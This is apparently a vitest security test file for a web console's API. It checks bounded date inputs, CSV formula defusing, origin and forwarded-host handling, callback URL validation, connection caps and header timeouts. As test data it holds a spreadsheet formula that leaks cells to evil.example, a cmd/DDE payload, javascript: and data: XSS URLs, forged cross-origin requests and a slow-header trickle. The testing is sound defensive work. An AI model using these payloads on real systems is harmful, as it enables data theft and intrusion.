import fs from "node:fs";
import http from "node:http";
import net from "node:net";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { cookieHeader, setCookiePairs } from "@/lib/cli/console-session";
import { demoFixtures } from "@/lib/demo/fixtures";
import { FIRST_DAY, LAST_DAY } from "@/lib/usage/period";
import { parseCsv } from "../support/csv";
import { consoleClient, type Session } from "./console-client";
import { embeddedInRun, EVENT_SITE_HOST, delay, randomSecret, type ApiTarget } from "./harness";
import { startOwnServer, stopOwnServer } from "./own-server";

/**
 * The edges of docs/decisions.md "Isolation", over HTTP against production servers: no input makes
 * work unbounded (days outside 2000-01-01 … 2999-12-31 are a 400 on every usage route), every CSV
 * the product writes is defused against spreadsheet formulas, HEAD never charges, connections are
 * bounded in time and per address, and only configuration (PUBLIC_URL, TRUSTED_PROXY_HOPS) — never
 * a client's X-Forwarded-Host — decides the console's own origin. The shared servers (both
 * databases) run with PUBLIC_URL and TRUSTED_PROXY_HOPS=1; two servers of this file's own (embedded
 * database) run clients-connect-directly: one without PUBLIC_URL and a small per-address cap, one
 * with an https PUBLIC_URL and a 2 s head deadline.
 */
const targets = inject("apiTargets");
const EVIL = "http://evil.example";
const RANGE = `${FIRST_DAY} … ${LAST_DAY}`;

type SignInAnswer = { status: number; url: string | null; setCookies: string[] };

/** next-auth's credentials sign-in as a browser's form does it, with extra request headers and any callbackUrl. */
const signIn = async (target: ApiTarget, callbackUrl: string, headers: Record<string, string> = {}): Promise<SignInAnswer> => {
  const csrf = await fetch(`${target.baseUrl}/api/auth/csrf`, { headers });
  const { csrfToken } = (await csrf.json()) as { csrfToken: string };
  const response = await fetch(`${target.baseUrl}/api/auth/callback/credentials`, {
    method: "POST",
    redirect: "manual",
    headers: { ...headers, "Content-Type": "application/x-www-form-urlencoded", Cookie: cookieHeader(setCookiePairs(csrf)) },
    body: new URLSearchParams({
      csrfToken,
      email: target.env.ADMIN_EMAIL ?? "",
      password: target.env.ADMIN_PASSWORD ?? "",
      callbackUrl,
      json: "true",
    }),
  });
  const text = await response.text();
  let url: string | null = null;
  try {
    url = (JSON.parse(text) as { url?: string }).url ?? null;
  } catch {
    url = null;
  }
  return { status: response.status, url, setCookies: response.headers.getSetCookie() };
};

const providerUrls = async (target: ApiTarget, headers: Record<string, string>): Promise<string[]> => {
  const response = await fetch(`${target.baseUrl}/api/auth/providers`, { headers });
  expect(response.status).toBe(200);
  const providers = (await response.json()) as Record<string, { signinUrl: string; callbackUrl: string }>;
  return Object.values(providers).flatMap((provider) => [provider.signinUrl, provider.callbackUrl]);
};

/** A key creation from another site's page that names that site in X-Forwarded-Host. */
const forgedKeyCreation = (target: ApiTarget, session: Session, origin: string, forwardedHost: string) =>
  fetch(`${target.baseUrl}/api/keys`, {
    method: "POST",
    headers: {
      Cookie: session.cookie,
      "Content-Type": "application/json",
      Origin: origin,
      "X-Forwarded-Host": forwardedHost,
      "X-Forwarded-Proto": new URL(origin).protocol.replace(":", ""),
    },
    body: JSON.stringify({ name: `forged ${randomSecret(6)}`, credits: 0, qpsLimit: 1 }),
  });

describe.each(targets.map((target) => [target.kind, target] as const))("bounded input, defused CSV, uncharged HEAD and the console's own origin on %s", (_kind, target: ApiTarget) => {
  const client = consoleClient(target);
  let admin: Session;
  let analyst: Session;
  let consoleKey: { id: string; token: string };
  let batchId = "";

  beforeAll(async () => {
    admin = await client.admin();
    analyst = await client.analyst(admin, "edges", 10_000);
    consoleKey = await client.consoleKey(analyst, 1000, 1000);
  });

  describe("usage days outside the supported range", () => {
    it("the year-9999 summary answers 400 naming the range, while /v1 answers", async () => {
      const [summary, account] = await Promise.all([
        client.api(analyst, "GET", "/api/usage/summary?from=9999-06-01&to=9999-12-31"),
        fetch(`${target.baseUrl}/v1/account`, { headers: { Authorization: `Bearer ${consoleKey.token}` }, signal: AbortSignal.timeout(10_000) }),
      ]);
      expect(summary.status, summary.text).toBe(400);
      expect(summary.text).toContain(RANGE);
      expect(account.status).toBe(200);
    });

    it("the request log and both exports refuse them alike (no 500, no empty 200)", async () => {
      for (const query of [
        "/api/usage/events?to=9999-12-31",
        "/api/usage/events?from=2025-01-01T00:00:00Z&to=9999-12-31T00:00:00Z",
        "/api/usage/export?kind=events&from=0000-01-01&to=0000-12-31",
        "/api/usage/export?kind=daily&from=0000-01-01&to=0000-12-31",
        "/api/usage/export?kind=daily&from=9999-12-01&to=9999-12-31",
        "/api/usage/summary?from=1999-12-31",
      ]) {
        const answer = await client.api(analyst, "GET", query);
        expect(answer.status, `${query}: ${answer.text}`).toBe(400);
        expect((answer.body as { error: { message: string } }).error.message, query).toContain(RANGE);
      }
    });

    it("happy path: the range's last days are answered", async () => {
      const answer = await client.api(analyst, "GET", `/api/usage/summary?from=2999-12-01&to=${LAST_DAY}`);
      expect(answer.status, answer.text).toBe(200);
      expect(await client.api(analyst, "GET", `/api/usage/events?to=${LAST_DAY}`)).toMatchObject({ status: 200 });
    });
  });

  describe("HEAD of a console lookup", () => {
    it("answers 405 with Allow: GET and charges nothing; GET still charges", async () => {
      const path = `/api/console/lookup/event_details_id?event_id=${demoFixtures.eventIds[0]}`;
      const before = await client.creditsOf(analyst, consoleKey.id);
      for (let attempt = 0; attempt < 3; attempt += 1) {
        const answer = await fetch(`${target.baseUrl}${path}`, { method: "HEAD", headers: { Cookie: analyst.cookie } });
        expect(answer.status).toBe(405);
        expect(answer.headers.get("allow")).toBe("GET");
      }
      expect(await client.creditsOf(analyst, consoleKey.id)).toBe(before);
      const got = await client.api(analyst, "GET", path);
      expect(got.status, got.text).toBe(200);
      expect(await client.creditsOf(analyst, consoleKey.id)).toBe(before - 4);
    });
  });

  describe("CSV formula injection", () => {
    it("an imported event's =HYPERLINK title and @SUM location come out of a batch result CSV defused, numbers as numbers", async () => {
      const sample = await client.api(analyst, "GET", `/api/console/lookup/event_details_id?event_id=${demoFixtures.eventIds[1]}`);
      expect(sample.status, sample.text).toBe(200);
      const eventId = String(8_100_000_000_000_000 + Math.floor(Math.random() * 1_000_000_000));
      const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
      const location = "@SUM(1+1)*cmd|' /C calc'!A0";
      const event = { ...(sample.body as { data: { event: Record<string, unknown> } }).data.event, event_id: eventId, title, location_text: location, lat: -33.5 };
      const imported = await fetch(`${target.baseUrl}/api/admin/import?name=formula.ndjson`, {
        method: "POST",
        headers: { Cookie: admin.cookie, "Content-Type": "application/x-ndjson" },
        body: `${JSON.stringify(event)}\n`,
      });
      expect(imported.status, await imported.clone().text()).toBe(200);

      const created = await client.api(analyst, "POST", "/api/batches", {
        operation: "event_details",
        inputs: [`https://${EVENT_SITE_HOST}/events/${eventId}/`],
        maxCredits: 100,
      });
      expect(created.status, created.text).toBe(201);
      const id = (created.body as { id: string }).id;
      const deadline = Date.now() + 60_000;
      for (;;) {
        const view = await client.api(analyst, "GET", `/api/batches/${id}`);
        if ((view.body as { status: string }).status === "done") break;
        if (Date.now() > deadline) throw new Error(`batch ${id} did not finish: ${view.text}`);
        await delay(200);
      }
      const csv = await client.api(analyst, "GET", `/api/batches/${id}/results?format=csv`);
      expect(csv.status).toBe(200);
      const [header = [], row = []] = parseCsv(csv.text);
      const cell = (name: string) => row[header.indexOf(name)];
      expect(cell("event_id")).toBe(eventId);
      expect(cell("title")).toBe(`'${title}`);
      expect(cell("location_text")).toBe(`'${location}`);
      expect(cell("lat")).toBe("-33.5");
      expect(cell("credits")).toBe("4");
      batchId = id;
    });
  });

  describe("numbers bound for integer columns", () => {
    it("a batch's items and the audit log refuse numbers past their columns with a 400, not a 500", async () => {
      expect(batchId).not.toBe("");
      for (const query of ["afterPosition=99999999999", "afterPage=1e300", "limit=1e300"]) {
        const answer = await client.api(analyst, "GET", `/api/batches/${batchId}/items?${query}`);
        expect(answer.status, `${query}: ${answer.text}`).toBe(400);
      }
      expect((await client.api(analyst, "GET", `/api/batches/${batchId}/items?afterPosition=0`)).status).toBe(200);
      const audit = await client.api(admin, "GET", "/api/admin/audit?before=1e300");
      expect(audit.status, audit.text).toBe(400);
      expect((await client.api(admin, "GET", "/api/admin/audit?before=5")).status).toBe(200);
    });
  });

  describe("the console's own origin is PUBLIC_URL's", () => {
    it("another site naming itself in X-Forwarded-Host cannot create a key (403 cross_origin, nothing created)", async () => {
      const before = await client.api(analyst, "GET", "/api/keys");
      const forged = await forgedKeyCreation(target, analyst, EVIL, "evil.example");
      expect(forged.status).toBe(403);
      expect(((await forged.json()) as { error: { code: string } }).error.code).toBe("cross_origin");
      expect((await client.api(analyst, "GET", "/api/keys")).text).toBe(before.text);
    });

    it("happy path: the configured origin itself is accepted", async () => {
      const answer = await fetch(`${target.baseUrl}/api/keys`, {
        method: "POST",
        headers: { Cookie: analyst.cookie, "Content-Type": "application/json", Origin: target.publicUrl },
        body: JSON.stringify({ name: `own origin ${randomSecret(6)}`, credits: 0, qpsLimit: 1 }),
      });
      expect(answer.status).toBe(201);
    });

    it("next-auth advertises PUBLIC_URL, not a forwarded host", async () => {
      const urls = await providerUrls(target, { "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "https" });
      expect(urls.length).toBeGreaterThan(0);
      for (const url of urls) expect(new URL(url).origin).toBe(target.publicUrl);
    });

    it("a malformed absolute callbackUrl leads to the home page, a foreign one too, an own path to itself", async () => {
      for (const callbackUrl of ["http://[", "https://exa mple.com:99999/x", "https://evil.example/keys", "//evil.example/keys"]) {
        const answer = await signIn(target, callbackUrl);
        expect(answer.status, callbackUrl).toBe(200);
        expect(answer.url, callbackUrl).toBe(`${target.publicUrl}/`);
      }
      expect((await signIn(target, `${target.publicUrl}/keys`)).url).toBe(`${target.publicUrl}/keys`);
    });

    it("a malformed absolute callbackUrl in the query of next-auth's routes is dropped, never a 500", async () => {
      for (const path of ["/api/auth/signin", "/api/auth/providers", "/api/auth/csrf"]) {
        for (const callbackUrl of ["http://[", "https://exa mple.com:99999/x"]) {
          const answer = await fetch(`${target.baseUrl}${path}?${new URLSearchParams({ callbackUrl })}`, { redirect: "manual" });
          await answer.arrayBuffer();
          expect(answer.status, `${path} ${callbackUrl}`).toBeLessThan(500);
        }
      }
      const posted = await fetch(`${target.baseUrl}/api/auth/callback/credentials?${new URLSearchParams({ callbackUrl: "http://[" })}`, {
        method: "POST",
        redirect: "manual",
        headers: { "Content-Type": "application/x-www-form-urlencoded" },
        body: "json=true",
      });
      await posted.arrayBuffer();
      expect(posted.status).toBeLessThan(500);
    });

    it("a callbackUrl of another scheme (javascript:, data:, ftp:) in the query or the cookie is dropped quietly: no 500, no error in the log", async () => {
      const logBefore = fs.readFileSync(target.logFile, "utf8").length;
      for (const callbackUrl of ["javascript:alert(1)", "JavaScript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", "ftp://files.example/x"]) {
        for (const path of ["/api/auth/signin", "/api/auth/providers", "/api/auth/csrf", "/api/auth/session"]) {
          const inQuery = await fetch(`${target.baseUrl}${path}?${new URLSearchParams({ callbackUrl })}`, { redirect: "manual" });
          await inQuery.arrayBuffer();
          expect(inQuery.status, `${path}?callbackUrl=${callbackUrl}`).toBeLessThan(500);
          const inCookie = await fetch(`${target.baseUrl}${path}`, {
            redirect: "manual",
            headers: { Cookie: `a=1; next-auth.callback-url=${encodeURIComponent(callbackUrl)}; b=2` },
          });
          await inCookie.arrayBuffer();
          expect(inCookie.status, `${path} with the cookie ${callbackUrl}`).toBeLessThan(500);
        }
      }
      await delay(200);
      const written = fs.readFileSync(target.logFile, "utf8").slice(logBefore);
      expect(written).not.toMatch(/INVALID_CALLBACK_URL|Invalid callback URL|\[error\]/i);
    });
  });
});

// ---------------------------------------------------------------------------------------------
// Servers of this file's own: clients connect directly (TRUSTED_PROXY_HOPS=0, the default)

const ownServer = (label: string, env: Record<string, string>, publicUrl?: string): Promise<ApiTarget> =>
  startOwnServer({ label, env, publicUrl: publicUrl ?? null });

const PER_ADDRESS = 6;
const HTTPS_PUBLIC_URL = "https://console.example.test";
let direct: ApiTarget | undefined;
let secure: ApiTarget | undefined;

beforeAll(async () => {
  // These servers run on the embedded database: in the run that covers it (API_DATABASES).
  if (!embeddedInRun) return;
  [direct, secure] = await Promise.all([
    ownServer("edges-direct", { MAX_CONNECTIONS_PER_ADDRESS: String(PER_ADDRESS) }),
    ownServer("edges-https", { HEADERS_TIMEOUT_S: "2" }, HTTPS_PUBLIC_URL),
  ]);
}, 420_000);

afterAll(async () => {
  for (const target of [direct, secure]) await stopOwnServer(target);
});

const must = <T>(value: T | undefined): T => {
  if (value === undefined) throw new Error("the server of this file did not start");
  return value;
};

/** A GET of `path` from the given local address, on a connection of its own. */
const getFrom = (target: ApiTarget, localAddress: string, path: string): Promise<number> =>
  new Promise((resolve, reject) => {
    const request = http.get({ host: "127.0.0.1", port: target.port, path, localAddress, agent: false }, (response) => {
      response.resume();
      response.on("end", () => resolve(response.statusCode ?? 0));
    });
    request.on("error", reject);
  });

/** A connection from 127.0.0.1 that sends nothing; `closed` settles when the server closes it. */
const idleConnection = (target: ApiTarget) =>
  new Promise<{ socket: net.Socket; closed: Promise<number> }>((resolve, reject) => {
    const socket = net.connect({ host: "127.0.0.1", port: target.port, localAddress: "127.0.0.1" });
    let bytes = 0;
    socket.on("data", (chunk) => (bytes += chunk.length));
    const closed = new Promise<number>((settle) => socket.on("close", () => settle(bytes)));
    socket.on("error", () => undefined);
    socket.once("connect", () => resolve({ socket, closed }));
    socket.once("error", reject);
  });

const closedWithin = (closed: Promise<number>, ms: number): Promise<boolean> =>
  Promise.race([closed.then(() => true), delay(ms).then(() => false)]);

describe.runIf(embeddedInRun)("own origin without PUBLIC_URL (the request's Host; X-Forwarded-* ignored without a trusted proxy)", () => {
  it("refuses a key creation from Origin evil.example with X-Forwarded-Host: evil.example (403)", async () => {
    const target = must(direct);
    const session = await consoleClient(target).admin();
    const forged = await forgedKeyCreation(target, session, EVIL, "evil.example");
    expect(forged.status).toBe(403);
    const own = await fetch(`${target.baseUrl}/api/keys`, {
      method: "POST",
      headers: { Cookie: session.cookie, "Content-Type": "application/json", Origin: target.baseUrl },
      body: JSON.stringify({ name: "own origin", credits: 0, qpsLimit: 1 }),
    });
    expect(own.status).toBe(201);
  });

  it("next-auth advertises the request's host, and after sign-in sends nobody to a forwarded host", async () => {
    const target = must(direct);
    for (const url of await providerUrls(target, { "X-Forwarded-Host": "evil.example" })) expect(new URL(url).origin).toBe(target.baseUrl);
    const answer = await signIn(target, `${EVIL}/keys`, { "X-Forwarded-Host": "evil.example" });
    expect(answer.url).toBe(`${target.baseUrl}/`);
  });
});

describe.runIf(embeddedInRun)("connections per client address (MAX_CONNECTIONS_PER_ADDRESS)", () => {
  it("closes connections beyond the cap from one address at once, while another address is served", async () => {
    const target = must(direct);
    const opened = [];
    for (let index = 0; index < PER_ADDRESS + 3; index += 1) opened.push(await idleConnection(target));
    const refused = await Promise.all(opened.map(({ closed }) => closedWithin(closed, 2000)));
    // Keep-alive connections of earlier fetches may hold a few of the address's places.
    expect(refused.filter(Boolean).length).toBeGreaterThanOrEqual(3);
    expect(refused.filter((closed) => !closed).length).toBeLessThanOrEqual(PER_ADDRESS);
    for (const [index, closed] of refused.entries()) if (closed) expect(await opened[index]?.closed).toBe(0);
    expect(await getFrom(target, "127.0.0.2", "/api/health")).toBe(200);
    for (const { socket } of opened) socket.destroy();
    await delay(200);
    expect(await getFrom(target, "127.0.0.1", "/api/health")).toBe(200);
  });
});

describe.runIf(embeddedInRun)("a request head must arrive within HEADERS_TIMEOUT_S", () => {
  it("closes a connection whose head trickles in, line by line, after the deadline", async () => {
    const target = must(secure);
    const connection = await idleConnection(target);
    connection.socket.write("GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\n");
    let line = 0;
    const trickle = setInterval(() => {
      if (!connection.socket.destroyed) connection.socket.write(`X-Trickle-${(line += 1)}: ${"a".repeat(10)}\r\n`);
    }, 400);
    try {
      // 2 s deadline, checked each second: closed well before 12 s of trickling.
      expect(await closedWithin(connection.closed, 12_000)).toBe(true);
    } finally {
      clearInterval(trickle);
      connection.socket.destroy();
    }
    expect(await getFrom(target, "127.0.0.1", "/api/health")).toBe(200);
  });
});

describe.runIf(embeddedInRun)("an https PUBLIC_URL", () => {
  it("gets Secure __Secure- session cookies even over a plain connection without X-Forwarded-Proto", async () => {
    const target = must(secure);
    const answer = await signIn(target, `${HTTPS_PUBLIC_URL}/keys`);
    expect(answer.url).toBe(`${HTTPS_PUBLIC_URL}/keys`);
    const session = answer.setCookies.filter((line) => line.includes("next-auth.session-token"));
    expect(session.length).toBeGreaterThan(0);
    for (const line of session) {
      expect(line.startsWith("__Secure-next-auth.session-token")).toBe(true);
      expect(line).toMatch(/;\s*Secure/i);
    }
  });

  it("answers with Strict-Transport-Security: pages, the console API and /v1", async () => {
    const target = must(secure);
    for (const path of ["/signin", "/api/health", "/v1/openapi.json", "/api/auth/providers"]) {
      const response = await fetch(`${target.baseUrl}${path}`, { redirect: "manual" });
      await response.arrayBuffer();
      expect(response.headers.get("strict-transport-security"), path).toMatch(/^max-age=\d+/);
    }
    for (const url of await providerUrls(target, { "X-Forwarded-Host": "evil.example" })) expect(new URL(url).origin).toBe(HTTPS_PUBLIC_URL);
  });

  it("happy path: an http console sends no HSTS", async () => {
    const response = await fetch(`${must(direct).baseUrl}/api/health`);
    await response.arrayBuffer();
    expect(response.headers.get("strict-transport-security")).toBeNull();
  });
});
